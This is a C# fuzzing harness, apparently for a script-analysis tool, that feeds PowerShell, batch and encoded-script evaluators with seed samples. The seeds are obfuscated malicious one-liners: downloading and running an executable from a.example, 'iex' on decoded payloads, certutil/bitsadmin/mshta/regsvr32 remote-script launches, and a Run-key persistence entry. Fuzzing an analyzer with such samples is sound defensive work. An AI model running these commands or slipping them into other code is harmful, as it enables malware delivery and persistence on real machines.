using System.Text;
using Lurewatch.Scripts;
using Lurewatch.Scripts.Batch;
using Lurewatch.Scripts.Encoded;
using Lurewatch.Scripts.PowerShell;

namespace Lurewatch.Fuzz;

/// <summary>Scripts of the shells, parsed and evaluated: no exception, no hang.</summary>
internal static class ScriptTargets
{
    public static Target PowerShell { get; } = new(data =>
    {
        var budget = Budget();
        new PsEvaluator(new ScriptRecord(budget, "fuzz"), budget).Run(Encoding.Latin1.GetString(data));
    }, "samples", () => Seeds(
        "$a='ht'+\"tp://a.example/$(1+2)\";[Net.WebClient]$w=New-Object Net.WebClient;foreach($u in $a.Split('@')){try{$w.DownloadFile($u,\"$env:TEMP\\x.exe\");if((gi $env:TEMP\\x.exe).Length -ge 3){saps $env:TEMP\\x.exe;break}}catch{}}",
        "function f([string]$x,$k=3){-join($x.ToCharArray()|%{[char]([int]$_ -bxor $k)})};&('i'+'ex') (f 'abc') ; switch -regex (1..3){'1'{'a'}default{continue}} ; do{$i++}while($i -lt 5)",
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAA/0tMTAQAdERJ4gMAAAA='));(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()|iex",
        "$h=@{a=1;'b'=2};\"{0:x} {1}\" -f 255,'q' -replace '(\\w)','$1$1' -split ' '|sort -Unique|select -First 1;@'\nhere\n'@;[regex]::Matches('aab','a+')|%{$_.Value};($PSHome[4,30]+'x') -join '';`w`r`ite-host -fore red $h.Keys"));

    public static Target Batch { get; } = new(data =>
    {
        var source = Encoding.Latin1.GetString(data);
        var budget = Budget();
        BatchInterpreter.RunFile(source, "x.bat", new ScriptRecord(budget, "fuzz"), budget, "fuzz");
        budget = Budget();
        BatchInterpreter.RunCommand(source, new ScriptRecord(budget, "fuzz"), budget, "fuzz");
    }, "samples", () => Seeds(
        "@echo off\r\nsetlocal EnableDelayedExpansion\r\nset \"u=http://a.ex\"\r\ncall :join ample/x\r\n(echo var u=\"%u%\"&echo b)>>\"%TEMP%\\a.js\"\r\nwscript \"%TEMP%\\a.js\"\r\ngoto done\r\n:join\r\nset \"u=%u%%~1\"\r\nexit /b\r\n:done\r\nfor /l %%i in (1,1,3) do set /a n=!n!+%%i*2\r\n",
        "cmd /V/C\"set q=llehsrewop&&for /L %i in (9,-1,0) do set r=!r!!q:~%i,1!&&if %i==0 !r! -e YQBiAGMA\"",
        "for /f \"tokens=2 delims==f\" %f in ('assoc .cmd^|findstr cmd') do @%f /c p^ow\"er\"shell -c iwr http://a.example/%random:~0,1% | more > nul & if not exist c:\\x (start /b calc) else (reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b /f)",
        "certutil -decode a.txt b.exe && bitsadmin /transfer j http://a.example/x c:\\y & wmic process call create \"mshta vbscript:close(Execute(\"\"x\"\"))\" & schtasks /create /tr \"regsvr32 /i:http://a.example/s scrobj.dll\" /tn t"));

    public static Target Encoded { get; } = new(data =>
    {
        var source = Encoding.Latin1.GetString(data);
        ScriptEncoding.Decode(source);
        foreach (var block in ScriptBlocks.In(source, Budget(), "fuzz")) ScriptEncoding.Decode(block.Text);
    }, "samples", () => Seeds(
        "#@~^DgAAAA==\\ko$K6,JCV^GE@#@&7gQAAA==^#~@",
        "<job><script language=\"JScript.Encode\"><![CDATA[#@~^DgAAAA==\\ko$K6,JCV^GE@#@&7gQAAA==^#~@]]></script><script src=\"http://a.example/x.js\"/></job>"));

    private static AnalysisBudget Budget() => new(new AnalysisLimits(), TimeProvider.System);

    private static IReadOnlyList<byte[]> Seeds(params string[] sources) => [.. sources.Select(Encoding.Latin1.GetBytes)];
}
